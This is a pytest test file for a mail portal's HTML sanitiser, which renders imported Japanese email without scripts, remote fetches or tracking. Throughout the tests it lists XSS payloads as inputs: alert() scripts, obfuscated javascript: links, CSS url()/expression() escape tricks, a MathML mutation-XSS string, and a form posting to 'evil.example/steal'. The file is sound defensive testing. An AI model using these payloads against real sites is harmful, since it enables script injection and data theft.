"""Imported mail shows in the thread iframe without scripts, remote fetches or tracking hits."""
import re

import pytest

from portal.mails.render import RenderedHtml, render_mail_html, render_plain_text

PORTAL = "http://127.0.0.1:5000"
INLINE = {"logo@example.jp": f"{PORTAL}/mails/attachments/5/inline?sig=abc"}


def render(html, *, allow_remote_images=False, **kwargs) -> RenderedHtml:
    """Render with a lookup that knows one inline image."""
    return render_mail_html(html, inline_image_url=INLINE.get, allow_remote_images=allow_remote_images, **kwargs)


def body(rendered) -> str:
    """The sanitised part of a rendered document (or of a plain-text document)."""
    document = rendered.html if isinstance(rendered, RenderedHtml) else rendered
    match = re.fullmatch(r"<!doctype html><html><head>.*?</head><body>(.*)</body></html>", document, re.DOTALL)
    assert match, document
    return match.group(1)


def img_src(rendered) -> list[str]:
    """The CSP img-src sources of a rendered document."""
    match = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', rendered)
    assert match, rendered
    directives = dict(d.strip().split(" ", 1) for d in match.group(1).split(";"))
    return directives["img-src"].split()


def test_script_removed_with_its_content():
    """A <script> and what it would run disappear; the text around it stays."""
    out = body(render("<p>前</p><script>alert('xss')</script><SCRIPT src=https://evil.example/x.js></SCRIPT><p>後</p>"))
    assert out == "<p>前</p><p>後</p>"


def test_event_handlers_removed():
    """onerror/onclick/onmouseover never reach the iframe."""
    out = body(render('<img src="x" onerror="alert(1)" alt="画像"><p onclick="alert(2)" ONMOUSEOVER="alert(3)">本文</p>'))
    assert out == '<img alt="画像"><p>本文</p>'


@pytest.mark.parametrize("href", [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "&#106;avascript:alert(1)",
    " javascript:alert(1)", "vbscript:msgbox(1)", "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
])
def test_script_links_lose_their_href(href):
    """javascript:, vbscript: and data: links keep their text but lead nowhere."""
    out = body(render(f'<a href="{href}">ここをクリック</a>'))
    assert "href" not in out
    assert "ここをクリック</a>" in out


def test_relative_links_lose_their_href():
    """A relative link would open a portal page from inside the mail, so it leads nowhere."""
    out = body(render('<a href="/users/1/delete">相対</a><a href="#top">上へ</a>'))
    assert "href" not in out and "相対" in out and "上へ" in out


def test_safe_links_kept():
    """http(s), mailto and tel links still work."""
    out = body(render('<a href="https://example.jp/a?b=1&amp;c=2">web</a><a href="mailto:info@example.jp">mail</a>'
                      '<a href="tel:0312345678">tel</a>'))
    assert 'href="https://example.jp/a?b=1&amp;c=2"' in out
    assert 'href="mailto:info@example.jp"' in out and 'href="tel:0312345678"' in out


def test_links_open_in_new_tab_without_referrer():
    """Every link gets target=_blank and rel=noopener noreferrer nofollow."""
    out = body(render('<a href="https://example.jp/" target="_self" rel="opener">開く</a>'))
    assert out == ('<a href="https://example.jp/" target="_blank" rel="noopener noreferrer nofollow">開く</a>')


def test_remote_images_blocked_and_counted():
    """With remote images off, http(s) and protocol-relative images lose src (alt stays) and are counted."""
    rendered = render('<img src="https://cdn.example.jp/a.png" alt="ロゴ"><img src="//cdn.example.jp/b.png">'
                      '<img src="HTTP://cdn.example.jp/c.png" width="10">')
    assert rendered.blocked_remote_images == 3
    assert body(rendered) == '<img alt="ロゴ"><img><img width="10">'
    assert "cdn.example.jp" not in rendered.html


def test_remote_images_kept_when_allowed():
    """With remote images on, they load (protocol-relative ones over https) and nothing is counted."""
    rendered = render('<img src="https://cdn.example.jp/a.png" alt="ロゴ"><img src="//cdn.example.jp/b.png">',
                      allow_remote_images=True)
    assert rendered.blocked_remote_images == 0
    assert body(rendered) == '<img src="https://cdn.example.jp/a.png" alt="ロゴ"><img src="https://cdn.example.jp/b.png">'


def test_cid_image_mapped_to_inline_url():
    """cid: images point at the portal's inline-attachment URL, whose origin CSP then allows."""
    asked = []

    def lookup(content_id):
        """Record what was asked and answer from INLINE."""
        asked.append(content_id)
        return INLINE.get(content_id)

    rendered = render_mail_html('<img src="cid:%3Clogo@example.jp%3E" alt="社章"><img src="CID:<logo@example.jp>">',
                                inline_image_url=lookup, allow_remote_images=False)
    url = INLINE["logo@example.jp"].replace("&", "&amp;")
    assert body(rendered) == f'<img src="{url}" alt="社章"><img src="{url}">'
    assert set(asked) == {"logo@example.jp"}
    assert PORTAL in img_src(rendered.html)
    assert rendered.blocked_remote_images == 0


@pytest.mark.parametrize("src", ["cid:unknown@example.jp", "cid:"])
def test_unknown_cid_image_dropped(src):
    """A cid: image with no matching attachment keeps its alt text and no src."""
    rendered = render(f'<img src="{src}" alt="添付画像">')
    assert body(rendered) == '<img alt="添付画像">'
    assert img_src(rendered.html) == ["data:"]


def test_inline_url_must_be_absolute():
    """A relative inline URL would resolve against the portal page and never pass CSP, so it is dropped."""
    rendered = render_mail_html('<img src="cid:a">', inline_image_url=lambda cid: "/mails/attachments/5/inline",
                                allow_remote_images=False)
    assert body(rendered) == "<img>"


def test_relative_and_odd_image_sources_dropped():
    """Relative, file:, ftp: and non-raster data: images never load."""
    out = body(render('<img src="/static/logo.png"><img src="file:///etc/passwd"><img src="ftp://x/a.png">'
                      '<img src="data:image/svg+xml;base64,PHN2Zz4="><img src="data:text/html,hi">'
                      '<img src="x.png" srcset="https://cdn.example.jp/a.png 2x">', allow_remote_images=True))
    assert out == "<img>" * 6


def test_embedded_raster_data_image_kept():
    """A base64 PNG/GIF/JPEG/WebP data: image shows."""
    src = "data:image/png;base64,iVBORw0KGgo="
    rendered = render(f'<img src="{src}" alt="埋め込み">')
    assert body(rendered) == f'<img src="{src}" alt="埋め込み">'
    assert "data:" in img_src(rendered.html)


@pytest.mark.parametrize("style", [
    "BACKGROUND:url(https://evil.example/a.png)",
    "background-image:url('https://evil.example/a.png')",
    "Background-Image : URL( https://evil.example/a.png )",
    "color: u\\rl(https://evil.example/a.png)",
    "color: u\rl(https://evil.example/a.png)",
    "border: 1px \\75rl(https://evil.example/a.png)",
    "color: u\\72l\\28 https://evil.example/a.png\\29",
    "font-family: url(https://evil.example/a.woff)",
    "background-color: image(url(https://evil.example/a.png))",
    "border-image: url(https://evil.example/a.png) 30",
    "list-style-image: url(https://evil.example/a.png)",
    "width: expression(alert(1))",
    "width: \\65xpression(alert(1))",
    "width: ex/**/pression(alert(1))",
    "behavior: url(x.htc); -moz-binding: url(x.xml#xss)",
])
def test_css_that_fetches_or_runs_removed(style):
    """No spelling of url(), expression() or background survives in a style attribute."""
    out = body(render(f'<div style="{style}">本文</div>', allow_remote_images=True))
    flat = re.sub(r"\s|/\*.*?\*/|\\", "", out).lower()
    for word in ("url", "expression", "background", "binding", "behavior", "image"):
        assert word not in flat, out
    assert "本文" in out


def test_safe_css_kept():
    """Ordinary mail styling (colour, fonts incl. escaped Japanese names, spacing) is kept."""
    out = body(render('<table><tr><td style="color:#333;background-color:#fff;background:url(x);padding:4px;'
                      'font-family:\\FF2D\\FF33 \\30B4\\30B7\\30C3\\30AF">x</td></tr></table>'
                      '<p style="font-weight:bold;position:fixed">強調</p>'))
    assert 'style="color:#333;background-color:#fff;padding:4px;font-family:ＭＳゴシック"' in out
    assert '<p style="font-weight:bold">強調</p>' in out


def test_form_controls_removed():
    """Forms and their controls (and their content) are gone."""
    out = body(render('<form action="https://evil.example/steal" method="post"><input name="pw" value="x">'
                      '<button>送信</button></form><select><option>選択</option></select><textarea>入力</textarea>'
                      '<button formaction="https://evil.example/">ボタン</button><input type="image" src="https://e/a">'
                      '<p>残る</p>'))
    assert out == "<p>残る</p>"


def test_meta_refresh_and_head_removed():
    """A full document's head (title, meta refresh, base, style, link) leaves only the body."""
    out = body(render('<html><head><title>件名</title><meta http-equiv="refresh" content="0;url=https://evil.example/">'
                      '<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">'
                      '<style>body{background:url(https://evil.example/a.png)}</style></head>'
                      '<body><meta http-equiv="refresh" content="0;url=https://evil.example/"><p>本文</p></body></html>'))
    assert out == "<p>本文</p>"


@pytest.mark.parametrize("markup", [
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><circle r=1></circle></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>クリック</text></a></svg>',
    "<math><mtext>数式</mtext><mi xlink:href=javascript:alert(1)>x</mi></math>",
])
def test_svg_and_math_removed(markup):
    """Inline SVG/MathML, with whatever script, handler or link it carries, is gone."""
    assert body(render(f"<p>前</p>{markup}<p>後</p>")) == "<p>前</p><p>後</p>"


def test_mathml_mutation_xss_removed():
    """The classic math/table/style mutation-XSS payload leaves no image or handler behind."""
    out = body(render("<p>前</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"))
    assert out == "<p>前</p>"


def test_frames_objects_and_embeds_removed():
    """iframe, object and embed (and their fallback content) are gone."""
    out = body(render('<iframe src="https://evil.example/">中</iframe><object data="https://evil.example/x.swf">'
                      '<param name="a" value="b">代替</object><embed src="https://evil.example/x.swf"><p>本文</p>'))
    assert out == "<p>本文</p>"


@pytest.mark.parametrize("src", [
    "https://portal.example.jp/t/o/abc.def",
    "//portal.example.jp/t/o/abc",
    "/t/o/abc",
    "https://portal.example.jp/t%2Fo/abc",
    "https://portal.example.jp/x/../t//o/abc",
])
def test_tracking_pixel_removed_even_when_remote_images_allowed(src):
    """The portal's open-tracking image is removed outright, never loaded and not counted as blocked."""
    for allow in (True, False):
        rendered = render(f'<p>前</p><img src="{src}" width="1" height="1" alt="">'
                          '<img src="https://cdn.example.jp/a.png"><p>後</p>', allow_remote_images=allow)
        out = body(rendered)
        assert "/o/" not in out and "width" not in out
        assert out.startswith("<p>前</p><img") and out.endswith("<p>後</p>")
        assert rendered.blocked_remote_images == (0 if allow else 1)


def test_tracking_pixel_removal_leaves_lookalike_text_alone():
    """Removing the tracking image does not touch markup-like text in other attributes or the body."""
    out = body(render('<span title="<img src=&quot;x&quot;>">注</span>&lt;img src="x"&gt;'
                      '<img src="https://portal.example.jp/t/o/abc" alt="<b>">', allow_remote_images=True))
    assert out == '<span title="&lt;img src=&quot;x&quot;&gt;">注</span>&lt;img src="x"&gt;'


def test_tracking_link_loses_href_keeps_text():
    """A link to the portal's click tracking keeps its text but no longer registers a click."""
    out = body(render('<a href="https://portal.example.jp/t/c/abc.def">詳細はこちら</a>'
                      '<a href="https://example.jp/t/x">普通</a>', allow_remote_images=True))
    assert "/t/c/" not in out
    assert ">詳細はこちら</a>" in out and 'href="https://example.jp/t/x"' in out


def test_tracking_paths_configurable():
    """Other tracking paths can be given; the defaults then no longer apply."""
    out = body(render('<img src="https://p.example/track/1"><img src="https://p.example/t/o/1">',
                      allow_remote_images=True, tracking_paths=("/track/",)))
    assert out == '<img src="https://p.example/t/o/1">'


def test_csp_blocks_remote_images_unless_allowed():
    """The document's CSP allows no script, form or font, and http:/https: images only when allowed."""
    blocked = render("<p>x</p>").html
    allowed = render("<p>x</p>", allow_remote_images=True).html
    csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', blocked).group(1)
    assert csp == "default-src 'none'; style-src 'unsafe-inline'; img-src data:; font-src 'none'; form-action 'none'"
    assert img_src(blocked) == ["data:"]
    assert img_src(allowed) == ["data:", "http:", "https:"]
    assert '<base target="_blank">' in blocked and '<meta charset="utf-8">' in blocked


def test_japanese_text_survives_intact():
    """Japanese (incl. NEC/IBM extensions, half-width kana, emoji) comes out exactly as it went in."""
    text = "お世話になっております。①㈱髙橋ﾃｽﾄ〜−～😀"
    out = body(render(f"<p>{text}</p><blockquote>&gt; 引用&amp;返信</blockquote>"))
    assert out == f"<p>{text}</p><blockquote>&gt; 引用&amp;返信</blockquote>"


@pytest.mark.parametrize("html", [None, "", "<", "<<p>>", "<table><td><tr>壊れた", "</div></p>", "<p>\ud800</p>",
                                  "<!--", "<a href='http://[::1'>x</a><img src='http://[::1'>"])
def test_empty_or_broken_html_never_raises(html):
    """Bad input renders to a (possibly empty) document instead of an error."""
    rendered = render(html)
    assert isinstance(body(rendered), str)
    assert "<script" not in rendered.html


def test_empty_html_gives_empty_body():
    """Nothing in, an empty body out."""
    assert body(render(None)) == "" and body(render("")) == ""


def test_plain_text_escapes_markup_and_keeps_lines():
    """Plain text shows <script> as text, keeps line breaks and makes no links."""
    document = render_plain_text('<script>alert("x")</script>\nお問い合わせ: https://example.jp/')
    assert body(document) == ('<div class="mail-text" style="white-space:pre-wrap">'
                              '&lt;script&gt;alert(&quot;x&quot;)&lt;/script&gt;\nお問い合わせ: https://example.jp/</div>')
    assert img_src(document) == ["data:"]


def test_plain_text_empty():
    """An empty plain-text body is an empty block."""
    assert body(render_plain_text("")) == '<div class="mail-text" style="white-space:pre-wrap"></div>'


def test_absurdly_nested_html_is_shown_as_text_without_markup():
    """Tens of thousands of nested tags (nh3 would take seconds) come out as escaped text, not as markup."""
    hostile = "<div>" * 30000 + "<script>alert(1)</script>中身" + "</div>" * 30000
    rendered = render_mail_html(hostile, inline_image_url=lambda cid: None, allow_remote_images=False)
    body = rendered.html.split("<body>", 1)[1]
    assert "中身" in body and "<script" not in body and body.count("<div") == 1


def test_ordinary_nesting_is_sanitised_normally():
    """Real mail nests a few dozen levels: it keeps its formatting."""
    markup = "<table><tr><td>" * 40 + "<b>太字</b>" + "</td></tr></table>" * 40
    rendered = render_mail_html(markup, inline_image_url=lambda cid: None, allow_remote_images=False)
    assert "<b>太字</b>" in rendered.html and "<table>" in rendered.html
